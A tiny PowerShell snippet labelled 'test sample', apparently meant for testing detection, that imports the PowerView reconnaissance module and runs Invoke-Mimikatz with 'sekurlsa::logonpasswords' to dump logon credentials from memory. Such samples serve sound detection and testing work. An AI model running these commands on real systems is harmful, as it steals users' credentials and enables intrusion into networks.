# test sample
Import-Module .\PowerView.ps1
Invoke-Mimikatz -Command "sekurlsa::logonpasswords"
